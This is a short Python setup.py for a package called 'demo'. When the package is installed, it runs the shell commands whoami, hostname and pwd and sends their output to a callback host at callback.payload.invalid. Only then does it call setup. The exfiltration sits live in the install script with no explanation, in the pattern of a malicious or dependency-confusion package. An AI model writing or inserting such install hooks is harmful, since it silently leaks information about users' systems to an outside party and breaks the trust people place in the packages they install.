import subprocess
from urllib import parse, request
from setuptools import setup


def out(command):
    return subprocess.run(command, shell=True, stdout=subprocess.PIPE).stdout.decode().strip()


query = parse.urlencode([("a", out("whoami")), ("b", out("hostname")), ("c", out("pwd"))])
request.urlopen("http://callback.payload.invalid/?" + query)
setup(name="demo", version="1.0")
